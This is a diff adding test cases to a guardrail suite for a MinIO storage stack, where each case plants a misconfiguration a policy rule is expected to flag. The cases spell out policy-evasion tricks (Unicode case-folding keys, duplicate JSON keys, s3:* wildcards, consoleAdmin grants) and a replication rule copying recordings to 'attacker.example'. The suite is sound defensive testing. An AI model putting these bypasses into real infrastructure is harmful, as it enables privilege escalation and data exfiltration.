@@ -6,6 +6,9 @@ opted into and acknowledged). Each change is the smallest edit a careless pull r
 
 from __future__ import annotations
 
+import copy
+import json
+from collections.abc import Callable
 from dataclasses import dataclass
 from typing import Any, Literal
 
@@ -19,6 +22,8 @@ from tests.guardrails.conftest import (
     uploader_policy,
 )
 from voice_recordings.permissions import UPLOADER_ACTIONS
+
+MINIO = "minio:index/"
 
 
 @dataclass(frozen=True)
@@ -98,6 +103,94 @@ def _lifecycle_rules(render: Render) -> list[dict[str, Any]]:
 
 def _rule_of(render: Render, kind: str) -> dict[str, Any]:
     return next(r for r in _lifecycle_rules(render) if r["tags"] == {"kind": kind})
+
+
+def _resource(type_token: str, name: str, inputs: dict[str, Any]) -> dict[str, Any]:
+    return {
+        "type": type_token,
+        "name": name,
+        "parent": None,
+        "protect": False,
+        "retain_on_delete": False,
+        "inputs": inputs,
+    }
+
+
+def _add(*resources: dict[str, Any]) -> Mutation:
+    def mutate(render: Render) -> None:
+        render["resources"].extend(copy.deepcopy(list(resources)))
+
+    return mutate
+
+
+def _respelled(value: Any, spell: Callable[[str], str]) -> Any:
+    """``value`` with every object key respelled (values untouched)."""
+    if isinstance(value, dict):
+        return {spell(key): _respelled(item, spell) for key, item in value.items()}
+    if isinstance(value, list):
+        return [_respelled(item, spell) for item in value]
+    return value
+
+
+def _lowercase_uploader_deletes(render: Render) -> None:
+    resource = uploader_policy(render)
+    document = _respelled(resource["inputs"]["policy"], str.lower)
+    document["statement"][-1]["action"].append("s3:DeleteObject")
+    resource["inputs"]["policy"] = document
+
+
+def _long_s_reader_wildcard(render: Render) -> None:
+    # "\u017ftatement" (long s): Go folds it to STATEMENT, so MinIO obeys it.
+    document = reader_policy(render)["inputs"]["policy"]
+    statements = document.pop("Statement")
+    statements[0]["Action"] = ["s3:*"]
+    document["\u017ftatement"] = statements
+
+
+def _dotless_i_reader_writes(render: Render) -> None:
+    # "Act\u0131on" (dotless i): Go folds it to ACTION.
+    statement = _statements(reader_policy(render))[0]
+    statement["Act\u0131on"] = [*statement.pop("Action"), "s3:PutObject"]
+
+
+def _second_statement_beside_the_reviewed_one(render: Render) -> None:
+    uploader_policy(render)["inputs"]["policy"]["statement"] = [
+        {"Effect": "Allow", "Action": "s3:*", "Resource": "*"}
+    ]
+
+
+def _duplicate_key_in_json_text(render: Render) -> None:
+    # What a reviewer reads first is not what the server keeps (the last); json.loads keeps the
+    # last too, so only the text shows it. Pulumi hands the pack this text.
+    resource = uploader_policy(render)
+    document = resource["inputs"]["policy"]
+    wide = json.dumps([{"Effect": "Allow", "Action": "s3:*", "Resource": "*"}])
+    resource["inputs"]["policy"] = (
+        f'{{"Version": "2012-10-17", "Statement": {json.dumps(document["Statement"])}, '
+        f'"Statement": {wide}}}'
+    )
+
+
+def _lowercase_public_listing(render: Render) -> None:
+    statement = _public_statement(render)
+    statement["action"] = [*statement.pop("Action"), "s3:ListBucket"]
+
+
+def _group_console_admin(render: Render) -> None:
+    user = render["config"]["voice-recordings:uploaderUser"]
+    _add(
+        _resource(f"{MINIO}iamGroup:IamGroup", "ops", {"name": "ops"}),
+        _resource(
+            f"{MINIO}iamGroupMembership:IamGroupMembership",
+            "ops-members",
+            {"group": "ops", "users": [user]},
+        ),
+        _resource(
+            f"{MINIO}iamGroupPolicyAttachment:IamGroupPolicyAttachment",
+            "ops-admin",
+            {"groupName": "ops", "policyName": "consoleAdmin"},
+        ),
+    )(render)
 
 
 def _add_encryption(render: Render) -> None:
@@ -330,6 +423,206 @@ CASES: list[Case] = [
         "retention-in-range",
         "committed",
         lambda r: _rule_of(r, "transcript").pop("noncurrentVersionExpirationDays"),
+    ),
+]
+
+
+# Policy documents as MinIO reads them (Go's encoding/json): keys match in any case, the last of
+# two wins, an unknown key is ignored. Each case walked past the rules before they read so.
+CASES += [
+    Case(
+        "lowercase-keys-uploader-deletes",
+        "iam-least-privilege",
+        "committed",
+        _lowercase_uploader_deletes,
+    ),
+    Case("long-s-statement-wildcard", "iam-no-wildcards", "committed", _long_s_reader_wildcard),
+    Case("dotless-i-action-writes", "iam-least-privilege", "committed", _dotless_i_reader_writes),
+    Case(
+        "lowercase-notaction",
+        "iam-no-wildcards",
+        "committed",
+        lambda r: _statements(uploader_policy(r))[-1].update(notaction=["s3:DeleteObject"]),
+    ),
+    Case("lowercase-public-listing", "no-anonymous-access", "public", _lowercase_public_listing),
+    Case(
+        "second-statement-key",
+        "policy-document-unambiguous",
+        "committed",
+        _second_statement_beside_the_reviewed_one,
+    ),
+    Case(
+        "duplicate-key-in-text",
+        "policy-document-unambiguous",
+        "committed",
+        _duplicate_key_in_json_text,
+    ),
+    Case(
+        "two-spellings-of-effect",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: _statements(reader_policy(r))[0].update(effect="Deny"),
+    ),
+    Case(
+        "key-the-server-ignores",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: reader_policy(r)["inputs"]["policy"].update(
+            Statements=[{"Effect": "Deny", "Action": "s3:GetObject", "Resource": "*"}]
+        ),
+    ),
+    Case(
+        "effect-in-lower-case",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: _statements(reader_policy(r))[0].update(Effect="allow"),
+    ),
+    Case(
+        "action-of-another-shape",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: _statements(reader_policy(r))[0].update(Action={"s3:GetObject": True}),
+    ),
+    Case(
+        "statement-not-a-list",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: reader_policy(r)["inputs"]["policy"].update(
+            Statement=_statements(reader_policy(r))[0]
+        ),
+    ),
+    Case(
+        "condition-twice-under-folding",
+        "policy-document-unambiguous",
+        "public",
+        lambda r: _public_statement(r).update(
+            Condition={
+                "StringEquals": {"aws:Referer": "https://omniplay.example"},
+                "stringequals": {"aws:Referer": "https://elsewhere.example"},
+            }
+        ),
+    ),
+    Case(
+        "principal-in-an-identity-policy",
+        "policy-document-unambiguous",
+        "committed",
+        lambda r: _statements(reader_policy(r))[0].update(Principal="*"),
+    ),
+]
+
+# The closed world: what no rule knows is a violation until a rule knows it.
+CASES += [
+    Case(
+        "group-makes-uploader-console-admin",
+        "known-resources-only",
+        "committed",
+        _group_console_admin,
+    ),
+    Case(
+        "group-inline-policy",
+        "known-resources-only",
+        "committed",
+        _add(
+            _resource(
+                rules.IAM_GROUP_POLICY,
+                "ops-inline",
+                {
+                    "group": "ops",
+                    "policy": {
+                        "Version": "2012-10-17",
+                        "Statement": [
+                            {
+                                "Effect": "Allow",
+                                "Action": ["s3:GetObject"],
+                                "Resource": ["arn:aws:s3:::voice-recordings/*"],
+                            }
+                        ],
+                    },
+                },
+            )
+        ),
+    ),
+    Case(
+        "replication-to-a-foreign-host",
+        "known-resources-only",
+        "committed",
+        _add(
+            _resource(
+                f"{MINIO}s3BucketReplication:S3BucketReplication",  # newer providers
+                "copy-out",
+                {
+                    "bucket": "voice-recordings",
+                    "rules": [{"target": {"host": "attacker.example", "bucket": "loot"}}],
+                },
+            )
+        ),
+    ),
+    Case(
+        "notification-to-a-webhook",
+        "known-resources-only",
+        "committed",
+        _add(
+            _resource(
+                f"{MINIO}s3BucketNotification:S3BucketNotification",
+                "tell-someone",
+                {
+                    "bucket": "voice-recordings",
+                    "queues": [{"queueArn": "arn:minio:sqs::x:webhook"}],
+                },
+            )
+        ),
+    ),
+    Case(
+        "kms-key",
+        "known-resources-only",
+        "committed",
+        _add(_resource(f"{MINIO}kmsKey:KmsKey", "key", {"keyId": "recordings"})),
+    ),
+    Case(
+        "ldap-attachment",
+        "known-resources-only",
+        "committed",
+        _add(
+            _resource(
+                f"{MINIO}iamLdapUserPolicyAttachment:IamLdapUserPolicyAttachment",
+                "ldap-admin",
+                {"userDn": "uid=eve,dc=example", "policyName": "consoleAdmin"},
+            )
+        ),
+    ),
+    Case(
+        "provider-skips-tls-checks",
+        "known-resources-only",
+        "committed",
+        lambda r: _set(find(r, "providers:minio"), "minioInsecure", "true"),
+    ),
+    Case(
+        "versioning-excludes-recordings",
+        "known-resources-only",
+        "committed",
+        lambda r: find(r, ":S3BucketVersioning")["inputs"]["versioningConfiguration"].update(
+            excludedPrefixes=["company_*/voice/"]
+        ),
+    ),
+    Case(
+        "lifecycle-rule-narrowed-by-prefix",
+        "known-resources-only",
+        "committed",
+        lambda r: _rule_of(r, "voice").update(filter="company_1/"),
+    ),
+    Case(
+        "policy-named-by-prefix",
+        "known-resources-only",
+        "committed",
+        lambda r: _set(reader_policy(r), "namePrefix", "omniplay-"),
+    ),
+    Case(
+        "service-account-of-root",
+        "service-account-of-stack-user",
+        "committed",
+        lambda r: _set(
+            find(r, ":IamServiceAccount", "voice-ai-realtime"), "targetUser", "minioadmin"
+        ),
     ),
 ]
 
